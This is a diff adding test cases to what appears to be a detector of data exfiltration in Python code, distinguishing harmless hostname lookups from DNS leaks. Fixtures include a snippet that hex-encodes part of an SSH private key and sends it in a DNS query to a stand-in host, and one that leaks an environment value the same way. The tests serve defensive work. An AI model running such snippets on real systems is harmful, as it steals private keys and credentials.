@@ -111,6 +111,31 @@ describe('python fetch and send', () => {
     expect(of('send')[0]?.endpoint.host).toBe('c.x.example.invalid');
   });
 
+  it('a configured host resolved whole (an SSRF guard) is a lookup, not data in a DNS name', async () => {
+    const { of } = await py(
+      'import os, socket\nfrom urllib.parse import urlparse\nhost = urlparse(os.environ.get("HOOK_URL", "")).hostname\nip = socket.gethostbyname(host)\n',
+    );
+    expect(of('send').filter((b) => b.channel === 'dns')).toEqual([]);
+  });
+
+  it('a host named in a settings file, resolved whole, is a lookup too; a key file in front of a domain is not', async () => {
+    const guard = await py(
+      'import json, socket\nfrom urllib.parse import urlparse\nhooks = json.load(open("config/webhooks.json"))\nfor url in hooks["targets"]:\n    socket.gethostbyname(urlparse(url).hostname or "")\n',
+    );
+    expect(guard.of('send').filter((b) => b.channel === 'dns')).toEqual([]);
+    const leak = await py(
+      'import socket\nk = open("/home/u/.ssh/id_ed25519").read()[:40].encode().hex()\nsocket.gethostbyname(k + ".k.x.example.invalid")\n',
+    );
+    expect(leak.of('send').filter((b) => b.channel === 'dns').length).toBe(1);
+  });
+
+  it('an environment value put in front of a domain still carries data', async () => {
+    const { of } = await py(
+      'import os, socket\nsocket.gethostbyname(os.environ.get("USER", "") + ".u.x.example.invalid")\n',
+    );
+    expect(of('send').filter((b) => b.channel === 'dns').length).toBe(1);
+  });
+
   it('secrets picked out of the environment by a comprehension are read and sent', async () => {
     const { of } = await py(
       [
